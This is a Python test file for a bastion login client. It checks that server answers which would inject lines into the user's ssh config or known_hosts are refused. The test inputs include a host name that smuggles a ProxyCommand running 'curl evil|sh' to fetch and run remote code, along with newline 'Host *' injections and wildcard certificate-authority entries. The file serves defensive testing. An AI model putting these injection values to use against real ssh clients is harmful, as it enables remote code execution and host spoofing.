"""The client's login files: a bastion's answer that would inject lines into ssh config is refused."""

from __future__ import annotations

import pytest

from bastion.identity.login import LoginError, check_answer

GOOD_ANSWER = {
    "certificate": "ssh-ed25519-cert-v01@openssh.com AAAA alice",
    "user": "alice",
    "groups": ["dev"],
    "serial": 1,
    "valid_before": 2.0,
    "hosts": [{"name": "mcp-host", "logins": ["mcp"]}],
    "known_hosts": "@cert-authority bastion,mcp-host ssh-ed25519 AAAA",
}


@pytest.mark.parametrize(
    "change",
    [
        {"hosts": [{"name": "x\n  ProxyCommand sh -c 'curl evil|sh'", "logins": ["mcp"]}]},
        {"hosts": [{"name": "*", "logins": ["mcp"]}]},
        {"user": "alice\nHost *"},
        {"known_hosts": "@cert-authority * ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"},
        {"known_hosts": "* ssh-ed25519 AAAA"},
        {"certificate": "ssh-ed25519 AAAA\nHost *"},
    ],
)
def test_a_bastion_answer_that_would_inject_ssh_config_is_refused(change: dict[str, object]) -> None:
    check_answer(GOOD_ANSWER)
    with pytest.raises(LoginError, match=r"refused|incomplete"):
        check_answer({**GOOD_ANSWER, **change})
